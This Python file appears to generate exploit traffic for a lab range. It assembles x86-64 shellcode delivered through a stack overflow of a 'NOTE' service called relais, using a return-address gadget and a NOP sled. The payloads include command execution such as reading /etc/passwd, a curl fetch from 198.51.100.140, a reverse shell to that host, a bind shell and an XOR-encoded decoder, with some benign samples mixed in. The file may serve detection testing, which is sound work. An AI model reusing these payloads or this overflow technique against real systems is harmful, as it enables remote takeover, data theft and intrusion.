# SPDX-License-Identifier: GPL-2.0-or-later
"""Machine code over a stack: commands with and without output, shells on the attack's own connection, back and bound; plain and encoded."""
import os, struct, subprocess, tempfile

OUT = (198, 51, 100, 140)
HERE = os.path.dirname(os.path.dirname(os.path.realpath(__file__)))


def assembled(text):
    with tempfile.TemporaryDirectory() as folder:
        with open(f'{folder}/c.s', 'w') as file:
            file.write('.intel_syntax noprefix\n' + text + '\n')
        subprocess.run(['as', '--64', '-o', f'{folder}/c.o', f'{folder}/c.s'], check=True)
        subprocess.run(['objcopy', '-O', 'binary', '-j', '.text', f'{folder}/c.o', f'{folder}/c.bin'], check=True)
        with open(f'{folder}/c.bin', 'rb') as file:
            return file.read()


# the connection is the highest descriptor that getpeername knows
FIND = 'mov edi, 9\n1: push 52\npop rax\nlea rsi, [rsp-64]\npush 16\nmov rdx, rsp\nsyscall\npop rcx\ntest eax, eax\njz 2f\ndec edi\njns 1b\n2:\n'
DUP = 'push 3\npop rsi\n3: dec esi\npush 33\npop rax\nsyscall\ntest esi, esi\njnz 3b\n'
SHELL = 'xor esi, esi\nxor edx, edx\nmov rbx, 0x68732f2f6e69622f\npush rdx\npush rbx\nmov rdi, rsp\npush 59\npop rax\nsyscall\n'


def command(text, found=''):
    return (found + f'jmp 8f\n7: pop rbx\nxor edx, edx\npush rdx\nmov rax, 0x68732f2f6e69622f\npush rax\nmov rdi, rsp\npush rdx\nmov ecx, 0x632d\npush rcx\nmov rsi, rsp\npush rdx\npush rbx\npush rsi\npush rdi\nmov rsi, rsp\npush 59\npop rax\nsyscall\n'
            f'8: call 7b\n.asciz "{text}"\n')


def connect(port, then):
    address = struct.unpack('<Q', struct.pack('>HH4B', 0, 0, *OUT))[0] & ~0xffffffff | struct.unpack('<H', struct.pack('>H', port))[0] << 16 | 2
    return f'push 41\npop rax\npush 2\npop rdi\npush 1\npop rsi\ncdq\nsyscall\nxchg eax, edi\nmov rcx, {address}\npush rcx\nmov rsi, rsp\npush 16\npop rdx\npush 42\npop rax\nsyscall\n' + then


BIND = 'push 41\npop rax\npush 2\npop rdi\npush 1\npop rsi\ncdq\nsyscall\nxchg eax, edi\nmov ecx, 0x67110002\npush rcx\nmov rsi, rsp\npush 16\npop rdx\npush 49\npop rax\nsyscall\npush 50\npop rax\npush 1\npop rsi\nsyscall\npush 43\npop rax\nxor esi, esi\ncdq\nsyscall\nxchg eax, edi\n' + DUP + SHELL
HELLO = FIND + 'lea rsi, [rip+9f]\npush 21\npop rdx\npush 1\npop rax\nsyscall\npush 60\npop rax\nsyscall\n9: .ascii "relais geknackt 90127\\n"\n'
CODES = {'output': command('id', FIND + DUP), 'uname': command('uname -a; echo $((7919*83))', FIND + DUP), 'passwd': command('cat /etc/passwd', FIND + DUP), 'quiet': command('touch /tmp/rl'), 'fetch': command('curl -s http://198.51.100.140:9090/rl'), 'shell': FIND + DUP + SHELL, 'reverse': connect(4448, DUP + SHELL),
         'back': connect(9090, 'push 60\npop rax\nsyscall\n'), 'bind': BIND, 'hello': HELLO, 'ping': command('ping -c1 192.0.2.99'), 'wait': command('sleep 2')}


def encoded(code, key=0x5a):
    """A decoder before the code, each byte changed by one key."""
    body = bytes(b ^ key for b in code)
    return assembled(f'jmp 2f\n1: pop rsi\nmov ecx, {len(body)}\npush rsi\n3: xor byte ptr [rsi+rcx-1], {key}\nloop 3b\nret\n2: call 1b\n.byte ' + ','.join(map(str, body)))


def gadget():
    path = os.path.join(os.environ['RANGE_LAB'], 'app', 'relais', 'relais')
    for line in subprocess.run(['nm', path], check=True, stdout=subprocess.PIPE, text=True).stdout.splitlines():
        if line.endswith(' relais_gadget'):
            return int(line.split()[0], 16)
    raise RuntimeError('no gadget in relais')


def note(code, sled=24):
    # the buffer and what the compiler keeps beside it, then the return address
    text = b'N' * PAD + struct.pack('<Q', gadget()) + b'\x90' * sled + code
    return b'NOTE %d\r\n' % len(text) + text


PAD = 216


def step(data, **more):
    return dict({'method': 'payload', 'target': '', 'send': data, 'class': 'shellcode', 'pause': 1.5}, **more)


def scenario():
    plain = {name: assembled(text) for name, text in CODES.items()}
    for name, code in plain.items():
        talk = [b'id; uname -r\n', b'exit\n'] if name == 'shell' else []
        yield step(note(code), talk=talk, visit=4455 if name == 'bind' else 0)
        if name in ('output', 'hello', 'fetch', 'quiet'):
            yield step(note(encoded(code)))
    yield step(b'NOTE 5\r\nhallo', **{'class': 'benign'})
    yield step(b'NOTE 30\r\nKomme um 7:30, bitte Tor auf!!!', **{'class': 'benign'})
    yield step(note(b'\xcc' * 40))
    yield step(b'NOTE 600\r\n' + b'A' * 600)


SCENARIO = [([('203.0.113.131', 7007), ('203.0.113.132', 7007)], list(scenario()) if 'RANGE_LAB' in os.environ else [])]
